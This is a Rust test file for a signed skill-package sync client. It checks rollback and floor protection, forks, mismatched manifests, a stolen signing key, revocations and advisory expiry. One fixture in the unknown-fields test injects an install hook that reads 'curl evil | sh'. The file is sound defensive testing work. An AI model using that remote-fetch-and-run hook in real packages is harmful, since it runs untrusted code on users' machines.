//! Rows 7, 10, 11, 16, 18, 21, 22 and 23: which release may be installed.

use skillsync_core::digest::{ArchiveDigest, EnvelopeDigest};
use skillsync_wire::advisories::Revocation;
use skillsync_wire::envelope::sign_unchecked;
use skillsync_wire::manifest::{Entry, Manifest};
use skillsync_wire::text::Owner;
use skillsync_wire::trust::{State, Walk};

use super::hub::{
    House, MANIFEST, RELEASE, Served, caller, code, key, line, now, release, signed, slug, time,
};

fn entry(manifest: &mut Manifest, name: &str) -> usize {
    manifest.skills.iter().position(|entry| entry.slug == slug(name)).unwrap()
}

/// A lie about `pdf` in the manifest.
fn with_entry(house: &House, lie: impl FnOnce(&mut Entry)) -> Served {
    house.serve().with_manifest(house, |manifest| {
        let at = entry(manifest, "pdf");
        lie(&mut manifest.skills[at]);
    })
}

fn before(name: &str) -> Option<EnvelopeDigest> {
    Some(EnvelopeDigest::of(name.as_bytes()))
}

#[test]
fn t07_a_release_never_goes_back_without_a_newer_pin_and_never_below_the_floor() {
    let mut house = House::new();
    house.pins.insert(slug("pdf"), 4);
    let state = house.serve().first_sync().unwrap();
    let cases: [(u64, Option<u64>, &str); 10] = [
        (17, Some(4), "ok"),
        (17, None, "ok"),
        (16, None, "trust-rollback"),
        (16, Some(3), "trust-rollback"),
        (16, Some(4), "trust-rollback"),
        (16, Some(5), "ok"),
        (15, Some(5), "ok"),
        (14, Some(5), "trust-floor"),
        (1, Some(99), "trust-floor"),
        (25, None, "ok"),
    ];
    for (seq, pin, expected) in cases {
        let mut house = House::new();
        house.manifest.version += 1;
        house.pins.extend(pin.map(|pin| (slug("pdf"), pin)));
        if seq != 17 {
            house.put(release("pdf", seq, before("x").filter(|_| seq > 1)));
        }
        let outcome = house.serve().sync(&state, now());
        if let Ok(state) = &outcome {
            let mark = &state.skills[&slug("pdf")];
            assert_eq!((mark.seq, mark.pin_seq), (seq, pin.unwrap_or(0).max(4)), "{seq} {pin:?}");
        }
        assert_eq!(code(outcome), expected, "{seq} {pin:?}");
    }
    // Below the floor for those, too, who were never here.
    let mut old = House::new();
    old.put(release("pdf", 14, before("x")));
    assert_eq!(code(old.serve().first_sync()), "trust-floor");
    // A skill that was removed is remembered.
    let mut gone = House::new();
    gone.manifest.version += 1;
    let pdf = gone.releases.remove(&slug("pdf")).unwrap();
    let state = gone.serve().sync(&state, now()).unwrap();
    gone.put(release("pdf", pdf.seq - 1, before("x")));
    gone.manifest.version += 1;
    assert_eq!(code(gone.serve().sync(&state, now())), "trust-rollback");
}

#[test]
fn t10_documents_name_each_other() {
    let house = House::new();
    let honest = house.serve();
    assert_eq!(code(with_entry(&house, |_| ()).first_sync()), "ok");
    // New manifest, old advisories; genuine both.
    let mut newer = house.clone();
    newer.advisories.version += 1;
    let mixed = Served { advisories: honest.advisories.clone(), ..newer.serve() };
    assert_eq!(code(mixed.first_sync()), "trust-mismatch");
    // The manifest says another version of the advisories than they do.
    let lie = house.serve().with_manifest(&house, |manifest| manifest.advisories.version += 1);
    assert_eq!(code(lie.first_sync()), "trust-mismatch");
    let lie = house.serve().with_manifest(&house, |manifest| manifest.advisories.size_bytes += 1);
    assert_eq!(code(lie.first_sync()), "trust-mismatch");
    // Manifest and release disagree in any field.
    type Lie = fn(&mut Entry);
    let lies: [(&str, Lie); 7] = [
        ("version", |entry| entry.version = "1.17.1".parse().unwrap()),
        ("version's build", |entry| entry.version = "1.17.0+x".parse().unwrap()),
        ("seq", |entry| entry.seq = 18),
        ("tarball", |entry| entry.tarball.sha256 = ArchiveDigest::of(b"evil")),
        ("tarball size", |entry| entry.tarball.size_bytes += 1),
        ("digest", |entry| entry.release.sha256 = EnvelopeDigest::of(b"evil")),
        ("size", |entry| entry.release.size_bytes += 1),
    ];
    for (field, lie) in lies {
        assert_eq!(code(with_entry(&house, lie).first_sync()), "trust-mismatch", "{field}");
    }
    // A genuine release of another skill under the name of this one.
    let docx = honest.releases[&slug("docx")].clone();
    let mut served = with_entry(&house, |entry| {
        entry.release.sha256 = EnvelopeDigest::of(&docx);
        entry.release.size_bytes = docx.len() as u64;
        entry.tarball.sha256 = ArchiveDigest::of(b"docx 17");
    });
    served.releases.insert(slug("pdf"), docx.clone());
    assert_eq!(code(served.first_sync()), "trust-mismatch");
}

#[test]
fn t11_genuine_bytes_in_the_wrong_place_are_wrong() {
    let mut served = House::new().serve();
    let (pdf, docx) = (served.releases[&slug("pdf")].clone(), served.releases[&slug("docx")].clone());
    served.releases.insert(slug("pdf"), docx);
    served.releases.insert(slug("docx"), pdf);
    assert_eq!(code(served.first_sync()), "trust-mismatch");
}

#[test]
fn t16_what_is_not_known_is_passed_over() {
    let house = House::new();
    let with = |document: &[u8], more: &str| {
        let text = String::from_utf8(document.to_vec()).unwrap();
        text.replacen('{', &format!("{{{more},"), 1).into_bytes()
    };
    let more = r#""dependencies":["evil"],"install":{"hook":"curl evil | sh"}"#;
    let text = serde_json::to_vec(&house.releases[&slug("pdf")]).unwrap();
    let payload = with(&with(&text, more), r#""_type":"release","spec":"1.7""#);
    let kind = "application/vnd.skillsync.release.v1+json";
    let statement = with(&sign_unchecked(kind, &payload, &[&key(RELEASE)]).unwrap(), r#""extra":null"#);
    let mut served = with_entry(&house, |entry| {
        entry.release.sha256 = EnvelopeDigest::of(&statement);
        entry.release.size_bytes = statement.len() as u64;
    });
    served.releases.insert(slug("pdf"), statement);
    // A root with a key that says more of itself than is known.
    let text = String::from_utf8(serde_json::to_vec(&house.root).unwrap()).unwrap();
    let text = text.replace(r#"{"alg""#, r#"{"keyid_hash_algorithms":"md5","alg""#);
    let text = text.replacen('{', r#"{"_type":"root","spec":"1.0","custom-field":"value","#, 1);
    let kind = "application/vnd.skillsync.root.v1+json";
    served.roots = vec![sign_unchecked(kind, text.as_bytes(), &[&key(1), &key(2)]).unwrap()];
    let state = served.first_sync().unwrap();
    let names: Vec<&str> = state.skills.keys().map(|name| name.as_str()).collect();
    assert_eq!(names, ["docx", "pdf"], "and nothing else");
}

#[test]
fn t18_the_manifest_key_alone_installs_nothing() {
    let house = House::new();
    // An invented archive, with the genuine release.
    let served = with_entry(&house, |entry| {
        entry.tarball.sha256 = ArchiveDigest::of(b"evil");
        entry.tarball.size_bytes = 4;
    });
    assert_eq!(code(served.first_sync()), "trust-mismatch");
    // An invented release, signed by the only key that was stolen.
    let mut evil = house.releases[&slug("pdf")].clone();
    evil.tarball.sha256 = ArchiveDigest::of(b"evil");
    let statement = signed(&evil, &[MANIFEST]);
    let mut served = with_entry(&house, |entry| {
        entry.tarball.sha256 = ArchiveDigest::of(b"evil");
        entry.release.sha256 = EnvelopeDigest::of(&statement);
        entry.release.size_bytes = statement.len() as u64;
    });
    served.releases.insert(slug("pdf"), statement);
    assert_eq!(code(served.first_sync()), "trust-sig");
    // Invented advisories that revoke nothing.
    let mut advisories = house.advisories.clone();
    advisories.floors.clear();
    let lie = signed(&advisories, &[MANIFEST]);
    let mut served = house.serve().with_manifest(&house, |manifest| {
        manifest.advisories.sha256 = EnvelopeDigest::of(&lie);
        manifest.advisories.size_bytes = lie.len() as u64;
    });
    served.advisories = lie;
    assert_eq!(code(served.first_sync()), "trust-sig");
}

#[test]
fn t21_releases_are_one_chain() {
    let mut house = House::new();
    let state = house.serve().first_sync().unwrap();
    let mut next = house.clone();
    next.publish("pdf");
    assert_eq!(code(next.serve().sync(&state, now())), "ok", "18 after 17");
    house.manifest.version += 1;
    house.put(release("pdf", 18, before("another 17")));
    assert_eq!(code(house.serve().sync(&state, now())), "trust-fork", "18 after another 17");
    house.put(release("pdf", 19, before("some 18")));
    assert_eq!(code(house.serve().sync(&state, now())), "ok", "a gap");
    house.put(release("pdf", 17, before("another 16")));
    assert_eq!(code(house.serve().sync(&state, now())), "trust-fork", "another 17");
    // A pin may lead back, and then on again by the same chain only.
    let mut pinned = House::new();
    pinned.manifest.version += 1;
    pinned.pins.insert(slug("pdf"), 1);
    pinned.put(release("pdf", 16, before("x")));
    let back = pinned.serve().sync(&state, now()).unwrap();
    pinned.manifest.version += 1;
    pinned.put(release("pdf", 17, before("another 16")));
    assert_eq!(code(pinned.serve().sync(&back, now())), "trust-fork");
    pinned.put(release("pdf", 17, Some(back.skills[&slug("pdf")].release)));
    assert_eq!(code(pinned.serve().sync(&back, now())), "ok");
}

#[test]
fn t22_the_sandbox_is_part_of_what_is_signed() {
    let house = House::new();
    let mut bare = house.releases[&slug("pdf")].clone();
    bare.sandbox = None;
    let stripped = signed(&bare, &[RELEASE]);
    let mut served = house.serve();
    served.releases.insert(slug("pdf"), stripped.clone());
    assert_eq!(code(served.first_sync()), "trust-mismatch", "taken off on the way");
    let strange = signed(&bare, &[MANIFEST]);
    let mut served = with_entry(&house, |entry| {
        entry.release.sha256 = EnvelopeDigest::of(&strange);
        entry.release.size_bytes = strange.len() as u64;
    });
    served.releases.insert(slug("pdf"), strange);
    assert_eq!(code(served.first_sync()), "trust-sig", "taken off by who signs manifests");
    // What is installed is asked of the statement, and its keys.
    let honest = house.serve();
    let walk = Walk::pinned(&honest.roots[0], EnvelopeDigest::of(&honest.roots[0])).unwrap();
    let rooted = walk.end(now()).unwrap();
    let statement = rooted.statement(&honest.releases[&slug("pdf")]).unwrap();
    assert_eq!(statement.sandbox, house.releases[&slug("pdf")].sandbox);
    assert_eq!(code(rooted.statement(&signed(&bare, &[MANIFEST]))), "trust-sig");
}

#[test]
fn t23_a_revocation_beats_everything() {
    let house = House::new();
    let state = house.serve().first_sync().unwrap();
    let mut warned = house.clone();
    warned.manifest.version += 1;
    warned.advisories.version += 1;
    let digest = EnvelopeDigest::of(&house.statement("pdf"));
    let revoked = Revocation { slug: slug("pdf"), release: digest, reason: line("malware") };
    warned.advisories.revoked.push(revoked.clone());
    warned.pins.insert(slug("pdf"), 99);
    assert_eq!(code(warned.serve().sync(&state, now())), "trust-revoked", "still listed");
    assert_eq!(code(warned.serve().first_sync()), "trust-revoked", "and for everybody");
    // What is installed is named, whether the manifest still lists it or not.
    for is_listed in [true, false] {
        let mut warned = warned.clone();
        if !is_listed {
            warned.releases.remove(&slug("pdf"));
        }
        let served = warned.serve();
        let rooted = Walk::resumed(state.clone(), &served.roots[0]).unwrap().end(now()).unwrap();
        let listed = rooted.manifest(&served.manifest, &caller(), now()).unwrap();
        let advised = listed.advisories(&served.advisories).unwrap();
        let named: Vec<_> = advised.revoked().collect();
        assert_eq!(named, [(&slug("pdf"), &revoked)], "listed: {is_listed}");
    }
}

#[test]
fn advisories_never_go_back() {
    let mut house = House::new();
    let state = house.serve().first_sync().unwrap();
    house.manifest.version += 1;
    for (version, floor, expected) in
        [(8, 15, "trust-rollback"), (9, 15, "ok"), (9, 14, "trust-fork"), (10, 14, "ok")]
    {
        house.advisories.version = version;
        house.advisories.floors.insert(slug("pdf"), floor);
        assert_eq!(code(house.serve().sync(&state, now())), expected, "{version} {floor}");
    }
}

#[test]
fn advisories_hold_for_a_week_at_most() {
    for (expires, expected) in [
        ("2026-11-20T12:00:00Z", "trust-expired"),
        ("2026-11-20T12:00:01Z", "ok"),
        ("2026-11-27T12:05:00Z", "ok"),
        ("2026-11-27T12:05:01Z", "trust-ttl"),
        ("2036-11-27T12:00:00Z", "trust-ttl"),
    ] {
        let mut house = House::new();
        house.advisories.expires = time(expires);
        assert_eq!(code(house.serve().first_sync()), expected, "{expires}");
    }
}

#[test]
fn what_is_not_listed_is_not_installed() {
    let served = House::new().serve();
    let walk = Walk::pinned(&served.roots[0], EnvelopeDigest::of(&served.roots[0])).unwrap();
    let listed = walk.end(now()).unwrap().manifest(&served.manifest, &caller(), now()).unwrap();
    let advised = listed.advisories(&served.advisories).unwrap();
    let unknown = advised.release(&slug("evil"), &served.releases[&slug("pdf")]);
    assert_eq!(code(unknown), "trust-not-listed");
    let known: &State = advised.state();
    assert!(known.skills.is_empty(), "nothing is installed by being believed");
}

#[test]
fn t07_a_version_that_the_user_named_may_be_older_and_nothing_is_forgotten_for_it() {
    let mut house = House::new();
    let older = signed(&house.releases[&slug("pdf")], &[house.release_by]);
    house.publish("pdf");
    let state = house.serve().first_sync().unwrap();
    let advised = |house: &House| {
        let served = house.serve();
        let walk = Walk::resumed(state.clone(), &served.roots[0]).unwrap();
        let listed = walk.end(now()).unwrap().manifest(&served.manifest, &caller(), now()).unwrap();
        listed.advisories(&served.advisories).unwrap()
    };
    let believed = advised(&house);
    assert_eq!(code(believed.release(&slug("pdf"), &older)), "trust-mismatch", "only where it was named");
    let chosen = believed.chosen(&slug("pdf"), &older).unwrap();
    assert_eq!(chosen.release().seq, 17);
    let mut after = believed.clone();
    after.installed(&chosen);
    assert_eq!(after.state().skills, state.skills, "what counts does not go back");
    assert_eq!(code(believed.chosen(&slug("docx"), &older)), "trust-mismatch", "of another skill");
    let forged = signed(&house.releases[&slug("pdf")], &[MANIFEST]);
    assert_eq!(code(believed.chosen(&slug("pdf"), &forged)), "trust-sig");
    // The same number, and other content: the hub says two things.
    let mut other = house.releases[&slug("pdf")].clone();
    other.owner = Owner::parse("mallory").unwrap();
    assert_eq!(code(believed.chosen(&slug("pdf"), &signed(&other, &[house.release_by]))), "trust-fork");
    let mut warned = house.clone();
    (warned.advisories.version, warned.manifest.version) = (10, warned.manifest.version + 1);
    warned.advisories.floors.insert(slug("pdf"), 18);
    assert_eq!(code(advised(&warned).chosen(&slug("pdf"), &older)), "trust-floor");
    warned.advisories.floors.clear();
    let release = EnvelopeDigest::of(&older);
    warned.advisories.revoked.push(Revocation { slug: slug("pdf"), release, reason: line("malware") });
    assert_eq!(code(advised(&warned).chosen(&slug("pdf"), &older)), "trust-revoked");
}
